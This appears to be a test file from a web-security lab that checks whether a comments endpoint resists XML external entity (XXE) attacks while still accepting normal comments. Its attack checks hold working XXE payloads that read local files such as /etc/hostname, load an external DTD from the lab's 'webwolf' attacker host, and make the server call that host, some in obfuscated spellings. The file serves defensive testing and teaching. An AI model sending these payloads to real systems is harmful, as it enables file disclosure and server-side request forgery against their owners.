import type { Client } from '../../../src/features/web-lab/core/client';
import { defineChecks, type Failure, type Trial } from '../../../src/features/web-lab/core/lab';
import { failIfOpened, failIfShown, failUnlessShown } from '../../../src/features/web-lab/core/probe';
import { BEFORE_DOCTYPE, inOtherSpellings, OTHER_TYPES } from '../doctype';
import { mistakes } from './mistakes';
import { world, type Facts } from './world';

const sendXml = (client: Client, body: string, type = 'application/xml') =>
  client.send('POST', '/comments', { headers: [['Content-Type', type]], body });

/** A comment with declarations, whose text is `&e;`, after something that may stand before a DOCTYPE. */
const startingWith = (start: string, declarations: string, text = '&e;') =>
  `${start}<!DOCTYPE comment [${declarations}]>\n<comment><text>${text}</text></comment>`;

const declaring = (declarations: string, text?: string) => startingWith('<?xml version="1.0"?>\n', declarations, text);

const OPENED = {
  vi: 'Khi đọc tài liệu này, máy chủ đã mở một tệp hoặc gọi một máy khác.',
  en: 'While it read this document, the server opened a file or called another host.',
};
const SHOWN = {
  vi: 'Trang hiện nội dung của một tệp trên máy chủ.',
  en: 'The page shows the content of a file on the server.',
};

/** Sends documents, and fails if one of them makes the server open something or show a secret. */
async function tryAll(
  trial: Trial<Facts>,
  documents: readonly string[],
  types: readonly string[] = ['application/xml'],
): Promise<Failure | undefined> {
  const client = trial.client();
  const { note, hostname } = trial.facts;
  for (const [type, document] of types.flatMap((one) => documents.map((document) => [one, document] as const))) {
    const sent = await sendXml(client, document, type);
    const found = failIfShown(await client.open('/'), [note.text, hostname], SHOWN) ?? failIfOpened(sent, OPENED);
    if (found) return found;
  }
  return undefined;
}

async function mustShow(
  trial: Trial<Facts>,
  send: (client: Client) => Promise<unknown>,
  text: string,
  vi: string,
  en: string,
) {
  const client = trial.client();
  await send(client);
  return failUnlessShown(await client.open('/'), [text], { vi, en });
}

export const checks = defineChecks<Facts>({
  world,

  goals: {
    root: ({ response }, { root }) => response.body.includes(root.join('\n')),
    note: ({ response }, { note }) => response.body.includes(note.text),
  },

  async attack(trial) {
    const client = trial.client();
    for (const path of ['/', trial.facts.note.path]) {
      await sendXml(client, declaring(`<!ENTITY e SYSTEM "file://${path}">`));
      await client.open('/');
    }
  },

  checks: [
    {
      id: 'list-root',
      kind: 'attack',
      title: { vi: 'Liệt kê thư mục gốc', en: 'List the root directory' },
      run: (trial) => tryAll(trial, [declaring('<!ENTITY e SYSTEM "file:///">')]),
    },
    {
      id: 'read-file',
      kind: 'attack',
      title: { vi: 'Đọc một tệp, viết theo nhiều cách', en: 'Read a file, in several spellings' },
      run: (trial) => {
        const { path } = trial.facts.note;
        return tryAll(trial, [
          declaring(`<!ENTITY e SYSTEM "file://${path}">`),
          declaring(`<!ENTITY e SYSTEM 'file:${path}'>`),
          declaring(`\n<!ENTITY\n e\n PUBLIC "x"\n "file://localhost${path}" >`),
          declaring(`<!ENTITY d "x"><!ENTITY e SYSTEM "FILE://${path}">`, '&d;&e;'),
          declaring('<!ENTITY e SYSTEM "file:///etc/hostname">', '<![CDATA[ok]]>&e;'),
        ]);
      },
    },
    {
      id: 'other-start',
      kind: 'attack',
      title: { vi: 'Tài liệu bắt đầu bằng thứ khác', en: 'A document that begins with something else' },
      run: (trial) =>
        tryAll(
          trial,
          ['', ...BEFORE_DOCTYPE].map((start) =>
            startingWith(start, `<!ENTITY e SYSTEM "file://${trial.facts.note.path}">`),
          ),
        ),
    },
    {
      id: 'by-dtd',
      kind: 'attack',
      title: { vi: 'Khai báo nằm ở máy khác', en: 'Declarations on another host' },
      async run(trial) {
        const attacker = trial.client();
        const content = `<!ENTITY e SYSTEM "file://${trial.facts.note.path}">`;
        await attacker.submit('http://webwolf/upload', { name: 'x.dtd', content });
        return tryAll(trial, [
          '<!DOCTYPE comment SYSTEM "http://webwolf/files/x.dtd"><comment><text>&e;</text></comment>',
          declaring('<!ENTITY % d SYSTEM "http://webwolf/files/x.dtd">%d;'),
          `<!DOCTYPE comment SYSTEM "file://${trial.facts.note.path}"><comment><text>x</text></comment>`,
        ]);
      },
    },
    {
      id: 'call-host',
      kind: 'attack',
      title: { vi: 'Khiến máy chủ gọi máy khác', en: 'Make the server call another host' },
      run: (trial) =>
        tryAll(trial, [
          declaring('<!ENTITY e SYSTEM "http://webwolf/landing?x=1">'),
          declaring('<!ENTITY e SYSTEM "https://webwolf/landing?x=2">'),
        ]),
    },
    {
      id: 'other-spellings',
      kind: 'attack',
      title: { vi: 'DOCTYPE viết theo nhiều cách', en: 'The DOCTYPE, written in several ways' },
      run: (trial) =>
        tryAll(trial, [
          ...inOtherSpellings(
            '<comment><text>&e;</text></comment>',
            `<!ENTITY e SYSTEM "file://${trial.facts.note.path}">`,
          ),
          `<!DOCTYPE comment PUBLIC '-' 'file://${trial.facts.note.path}' ><comment><text>x</text></comment>`,
          `<!DOCTYPE x-1.b SYSTEM 'file://${trial.facts.note.path}'><comment><text>x</text></comment>`,
          declaring(`<!ENTITY % p "<!ENTITY e &#83;YSTEM 'fi&#108;e://${trial.facts.note.path}'>">%p;`),
        ]),
    },
    {
      id: 'other-types',
      kind: 'attack',
      title: { vi: 'Tài liệu được gửi với kiểu khác', en: 'The document is sent with another type' },
      run: (trial) => tryAll(trial, [declaring(`<!ENTITY e SYSTEM "file://${trial.facts.note.path}">`)], OTHER_TYPES),
    },
    {
      id: 'by-form',
      kind: 'legitimate',
      title: { vi: 'Nhận xét bằng ô trên trang', en: 'A comment through the box on the page' },
      run: (trial) => {
        const text = `Sách hay, ${trial.random.integer(100, 999)} trang`;
        return mustShow(
          trial,
          (client) => client.submit('/comments', { text }),
          text,
          'Nhận xét gửi bằng ô trên trang phải hiện ra.',
          'A comment sent through the box on the page must appear.',
        );
      },
    },
    {
      id: 'by-xml',
      kind: 'legitimate',
      title: { vi: 'Nhận xét bằng XML', en: 'A comment as XML' },
      async run(trial) {
        const number = trial.random.integer(100, 999);
        const documents: readonly (readonly [string, string])[] = [
          [`<comment><text>Hay ${number}</text></comment>`, `Hay ${number}`],
          [
            `<?xml version="1.0" encoding="UTF-8"?>\n<!-- x -->\n<comment lang="vi"><text>A &amp; B ${number}</text></comment>`,
            `A &amp; B ${number}`,
          ],
          [`<comment><text>${number} &#233;<![CDATA[ < ]]></text></comment>`, `${number} é &lt;`],
          [
            `<comment><text>DOCTYPE, ENTITY, SYSTEM, PUBLIC: http://sach.example/xml/${number}</text></comment>`,
            `DOCTYPE, ENTITY, SYSTEM, PUBLIC: http://sach.example/xml/${number}`,
          ],
          [`<comment><by>An</by><text>file: ${number}</text></comment>`, `file: ${number}`],
        ];
        for (const [document, shown] of documents) {
          const found = await mustShow(
            trial,
            (client) => sendXml(client, document),
            shown,
            'Một tài liệu XML bình thường phải được nhận.',
            'An ordinary XML document must be accepted.',
          );
          if (found) return found;
        }
        return undefined;
      },
    },
    {
      id: 'long',
      kind: 'legitimate',
      title: { vi: 'Một nhận xét dài', en: 'A long comment' },
      run: (trial) => {
        const text = `${'Rất nhiều lời khen. '.repeat(40)}${trial.random.integer(100, 999)}`;
        return mustShow(
          trial,
          (client) => sendXml(client, `<comment><text>${text}</text></comment>`),
          text,
          'Một nhận xét dài vẫn là nhận xét bình thường.',
          'A long comment is still an ordinary comment.',
        );
      },
    },
  ],

  mistakes,
});
